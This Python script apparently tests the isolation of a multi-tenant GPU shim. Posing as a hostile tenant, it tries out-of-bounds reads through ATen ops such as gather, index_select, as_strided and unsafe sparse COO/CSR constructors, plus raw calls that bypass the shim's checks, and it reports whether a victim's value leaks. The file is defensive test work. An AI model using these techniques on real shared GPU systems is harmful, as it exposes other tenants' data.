"""Issue 21's attack, as a hostile tenant runs it: ordinary ATen ops that read past their inputs. Each line
printed is 'name: outcome'; a result containing the victim's value 1234.5 is printed as 'LEAK'."""

import torch

from proto import aten as W
from shim.torch import stream as S


def attempt(name, fn):
    try:
        out = fn()
        torch.cuda.synchronize()
        vals = out.detach().cpu().reshape(-1) if isinstance(out, torch.Tensor) else torch.tensor([])
        print(f"{name}: {'LEAK' if bool((vals == 1234.5).any()) else 'no leak'}", flush=True)
    except Exception as exc:  # noqa: BLE001
        print(f"{name}: refused: {type(exc).__name__}: {str(exc).splitlines()[0][:160]}", flush=True)


data = torch.arange(4.0, device="cuda")
lengths = torch.ones(65536, dtype=torch.long, device="cuda")
attempt("segment_reduce_unsafe", lambda: torch.segment_reduce(data, "sum", lengths=lengths, unsafe=True))
attempt("segment_reduce", lambda: torch.segment_reduce(data, "sum", lengths=lengths))
attempt("index_select", lambda: torch.index_select(data, 0, torch.tensor([0, 1 << 20], device="cuda")))
attempt("gather", lambda: torch.gather(data, 0, torch.tensor([1 << 20], device="cuda")))
attempt("embedding", lambda: torch.nn.functional.embedding(torch.tensor([1 << 20], device="cuda"), data.reshape(4, 1)))
attempt("as_strided", lambda: data.as_strided((1 << 20,), (1,)))
attempt(
    "sparse_coo",
    lambda: (
        torch.sparse_coo_tensor(torch.tensor([[1 << 20]]), torch.ones(1), (4,), check_invariants=False)
        .to("cuda")
        .to_dense()
    ),
)


def raw(op):  # a client that skips the shim's own checks and sends the op itself
    value, _ = S.stream().call(op, op[0])
    return value


idx, row, one = torch.tensor([[1 << 20]], device="cuda"), torch.tensor([1 << 20], device="cuda"), data[:1]
attempt("raw_sparse_unsafe", lambda: raw(["aten._sparse_coo_tensor_unsafe.default", [idx._x, one._x, [4]], {}, []]))
square = data.reshape(2, 2)
attempt("raw_to_sparse", lambda: raw(["aten._to_sparse_csr.default", [square._x], {}, []]))
# compressed layouts: parts checked before a tensor exists, indices private, the unchecked constructor refused
CSR = W.encoder().layout[torch.sparse_csr]
crow, far = torch.tensor([0, 1], device="cuda"), torch.tensor([1 << 20], device="cuda")
attempt(
    "raw_csr_parts",
    lambda: raw(
        ["aten.sparse_compressed_tensor.comp_plain_value_size", [crow._x, far._x, one._x, [1, 4]], {"layout": CSR}, []]
    ),
)
attempt(
    "raw_csr_unsafe", lambda: raw(["aten._sparse_csr_tensor_unsafe.default", [crow._x, far._x, one._x, [1, 4]], {}, []])
)
csr = torch.eye(4).to_sparse_csr().to("cuda")
attempt(
    "csr_indices_rewrite",
    lambda: (csr.col_indices().fill_(1 << 20), csr.crow_indices().fill_(1 << 20), csr.to_dense())[2],
)
attempt(
    "sparse_csr",
    lambda: (
        torch.sparse_csr_tensor(torch.tensor([0, 1]), torch.tensor([1 << 20]), torch.ones(1), (1, 4))
        .to("cuda")
        .to_dense()
    ),
)
# NOTE [sparse tensors]: sparse COO tensors are kept, with indices nobody can point elsewhere
attempt(
    "raw_sparse_parts",
    lambda: raw(["aten._sparse_coo_tensor_with_dims_and_tensors.default", [1, 0, [4], idx._x, one._x], {}, []]),
)
sp = torch.eye(4).to_sparse().to("cuda")
attempt("sparse_indices_rewrite", lambda: (sp._indices().fill_(1 << 20), sp.to_dense())[1])
twice = torch.sparse_coo_tensor(torch.tensor([[3, 0, 3]]), torch.ones(3), (4,)).to("cuda")
attempt("raw_coalesced_claim", lambda: raw(["aten._coalesced_.default", [twice._x, True], {}, []]))
fresh = torch.ones(1, device="cuda")  # not a view of data: the write itself is what is checked
attempt(
    "raw_index_put_unsafe",
    lambda: raw(["aten._index_put_impl_.default", [data._x, [row._x], fresh._x, False, True], {}, []]),
)
print("attacker done", flush=True)
